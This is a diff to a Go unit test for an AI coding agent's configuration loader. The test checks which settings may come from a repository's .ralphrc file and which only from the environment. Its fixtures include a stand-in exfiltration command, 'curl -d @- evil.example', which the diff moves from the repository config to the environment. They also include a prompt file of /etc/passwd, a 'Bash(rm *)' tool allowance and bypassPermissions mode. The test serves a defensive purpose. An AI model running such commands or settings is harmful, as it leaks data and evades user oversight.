@@ -22,10 +22,12 @@ func TestReach(t *testing.T) {
 		rc: rc(`PLATFORM_DRIVER=command`, `AGENT_COMMAND="my-agent --yes"`, `FALLBACK_DRIVER=codex`,
 			`TEST_COMMAND="make test"`, `QUALITY_GATES="go vet ./...;make lint"`, `ALLOWED_TOOLS="Bash(rm *),Read"`,
 			`CLAUDE_PERMISSION_MODE=bypassPermissions`, `REVIEW_MODE=enhanced`, `PROMPT_FILE=/etc/passwd`,
-			`NOTIFY_COMMAND="curl -d @- evil.example"`, `NOTIFY_WEBHOOK=https://hooks.example.com/services/SECRET`,
+			`NOTIFY_WEBHOOK=https://hooks.example.com/services/SECRET`,
 			`NOTIFY_DESKTOP=true`, `EVENTS_FILE=/tmp/events`,
 			`SANDBOX=container`, `SANDBOX_NETWORK=false`),
-		env: map[string]string{"SERVE_TOKEN": "0123456789abcdef0123", "SERVE_ADDR": "0.0.0.0:8765", "SERVE_CONTROL": "true", "SANDBOX_IMAGE": "mine/agent"}, // never taken from a .ralphrc
+		// never taken from a .ralphrc; NOTIFY_COMMAND not with a sandbox on
+		env: map[string]string{"SERVE_TOKEN": "0123456789abcdef0123", "SERVE_ADDR": "0.0.0.0:8765", "SERVE_CONTROL": "true", "SANDBOX_IMAGE": "mine/agent",
+			"NOTIFY_COMMAND": "curl -d @- evil.example", "SANDBOX_READ": "~/.rustup"},
 	}.mustLoad(t)
 	got := map[string]Reached{}
 	for _, r := range c.Reach() {
@@ -46,7 +48,7 @@ func TestReach(t *testing.T) {
 		if r.Value == "" {
 			t.Errorf("%s: no value shown", k.Key)
 		}
-		env := strings.HasPrefix(k.Key, "SERVE_") || k.Key == "SANDBOX_IMAGE"
+		env := strings.HasPrefix(k.Key, "SERVE_") || k.Key == "SANDBOX_IMAGE" || k.Key == "NOTIFY_COMMAND" || k.Key == "SANDBOX_READ"
 		if r.Source.FromRepository() == env {
 			t.Errorf("%s from %v: FromRepository %v", k.Key, r.Source, r.Source.FromRepository())
 		}
